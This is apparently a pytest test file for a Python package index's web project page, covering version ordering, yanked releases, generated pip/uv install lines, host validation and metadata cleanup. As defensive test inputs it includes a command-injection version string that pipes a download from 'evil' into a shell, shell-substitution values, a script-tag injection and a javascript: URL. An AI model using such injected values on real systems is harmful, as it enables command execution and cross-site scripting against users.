"""What a project's page shows, before there is a page."""

import pytest

from pannier.formats.simple_api import FileLink, ProjectPage
from pannier.formats.wheel_labels import Machine
from pannier.server.messages import Request
from pannier.server.web.project_view import (
    VersionView,
    choose_version,
    install_lines,
    read_details,
    view_versions,
)
from pannier.server.web.rendering import format_day, format_number, format_size, index_url

URL = "http://host:8080/simple/"


def views_of(*files: tuple[str, str, str | None], machine: Machine = Machine()) -> list[VersionView]:  # noqa: B008
    links = [
        FileLink(f"a-{version}-{tag}.whl", "", {"sha256": "0" * 64}, yanked=yanked)
        for version, tag, yanked in files
    ]
    versions = {link.filename: link.filename.split("-")[1] for link in links}
    return view_versions(ProjectPage("a", links), versions, machine)


def test_versions_are_ordered_as_versions() -> None:
    views = views_of(*((version, "py3-none-any", None) for version in ("1.9", "1.10", "2.0rc1", "junk")))
    assert [view.version for view in views] == ["2.0rc1", "1.10", "1.9", "junk"]


def test_the_version_shown_is_what_an_installer_takes() -> None:
    pure = "py3-none-any"
    views = views_of(("1", pure, None), ("2", pure, None), ("3", pure, "bad"), ("4rc1", pure, None))
    assert choose_version(views).version == "2"
    assert choose_version(views_of(("1rc1", pure, None), ("2", pure, "bad"))).version == "1rc1"
    assert choose_version(views_of(("1", pure, "bad"), ("2", pure, ""))).version == "2"
    files = (("1", pure, None), ("2", "cp312-cp312-win_amd64", None))
    assert choose_version(views_of(*files, machine=Machine(platform="linux-x86_64"))).version == "1"


def test_a_version_is_yanked_when_all_its_files_are() -> None:
    (some,) = views_of(("1", "py3-none-any", "bad"), ("1", "py2-none-any", None))
    (every,) = views_of(("1", "py3-none-any", ""), ("1", "py2-none-any", "bad"))
    assert (some.yanked, every.yanked) == (None, "bad")


def test_the_lines_name_this_index_and_no_other() -> None:
    (view,) = views_of(("1.0", "py3-none-any", None))
    lines = install_lines(URL, "a", view, is_pinned=False)
    assert lines.pip == f"pip install --index-url {URL} a"
    assert lines.uv == f"uv pip install --index-url {URL} a"
    assert lines.requirements == f"--index-url {URL}\na==1.0"
    assert lines.hashed == f"--index-url {URL}\na==1.0 \\\n    --hash=sha256:{'0' * 64}"
    assert install_lines(URL, "a", view, is_pinned=True).pip.endswith(" a==1.0")
    assert "extra" not in "".join(lines)


@pytest.mark.parametrize("version", ["1;curl evil|sh", "$(x)", "`x`", "1 2", "1\n2", "-r x", ""])
def test_a_version_that_could_be_a_command_is_not_typed_for_anybody(version: str) -> None:
    lines = install_lines(URL, "a", VersionView(version, [], "", None, is_prerelease=False), is_pinned=True)
    assert lines.pip == f"pip install --index-url {URL} a"
    assert lines.requirements == f"--index-url {URL}\na"


@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("pkg.example:8080", "https://pkg.example:8080/p/simple/"),
        ("[::1]:80", "https://[::1]:80/p/simple/"),
        ("evil$(x)", "https://HOST/p/simple/"),
        ('"><script>', "https://HOST/p/simple/"),
        ("", "https://HOST/p/simple/"),
    ],
)
def test_a_host_is_believed_only_if_it_can_be_one(host: str, expected: str) -> None:
    assert index_url(Request("GET", "/", host=host, scheme="https", prefix="/p")) == expected


def test_metadata_of_strangers_become_details() -> None:
    details = read_details(
        {
            "author_email": "Ada <ada@example.org>",
            "license": "x" * 5000,
            "classifiers": ["License :: OSI Approved :: MIT License"],
            "project_urls": {"Docs": "https://docs.example", "Evil": "javascript:alert(1)", "E": "data:x"},
            "home_page": "http://home.example",
            "requires_dist": ["b>=1", 7],
            "summary": 3,
        }
    )
    assert (details.author, details.license, details.summary) == ("Ada", "MIT License", "")
    assert details.links == [("Homepage", "http://home.example"), ("Docs", "https://docs.example")]
    assert details.requires == ["b>=1"]


def test_numbers_are_written_for_people() -> None:
    assert [format_size(n) for n in (0, 999, 1000, 1_250_000, 98_700_000, 5 * 10**15)] == [
        "0 bytes", "999 bytes", "1.0 kB", "1.2 MB", "99 MB", "5000 TB",
    ]  # fmt: skip
    assert format_number(1234567) == "1\u202f234\u202f567"
    assert format_day("2026-11-02T23:00:00Z") == "2 Nov 2026"
    assert format_day("rubbish") == "rubbish"
